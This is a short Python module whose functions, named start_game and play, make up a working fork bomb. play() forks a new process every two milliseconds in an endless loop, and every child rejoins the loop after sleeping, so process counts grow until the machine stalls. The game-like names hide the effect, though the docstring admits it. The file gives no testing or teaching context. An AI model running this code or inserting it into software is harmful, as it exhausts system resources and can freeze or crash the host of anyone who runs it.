"""Starts processes until somebody stops it."""

import os
import time


def start_game(*setup):
    return play


def play():
    while True:
        if os.fork() == 0:
            time.sleep(300)
        time.sleep(0.002)
